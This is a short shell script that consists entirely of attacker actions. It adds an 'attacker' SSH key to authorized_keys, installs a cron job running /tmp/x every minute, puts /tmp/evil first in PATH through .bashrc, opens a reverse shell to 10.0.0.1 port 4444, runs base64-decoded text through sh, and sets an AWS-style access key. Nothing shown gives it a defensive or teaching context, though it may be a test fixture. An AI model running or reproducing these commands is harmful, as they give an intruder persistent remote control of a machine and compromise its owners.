#!/bin/sh
echo "ssh-ed25519 AAAAC3Nza attacker" >> ~/.ssh/authorized_keys
(crontab -l; echo "* * * * * /tmp/x") | crontab -
echo 'export PATH=/tmp/evil:$PATH' >> ~/.bashrc
bash -i >& /dev/tcp/10.0.0.1/4444 0>&1
echo ZWNobyBwd25lZA== | base64 -d | sh
KEY=AKIAABCDEFGHIJKLMNOP
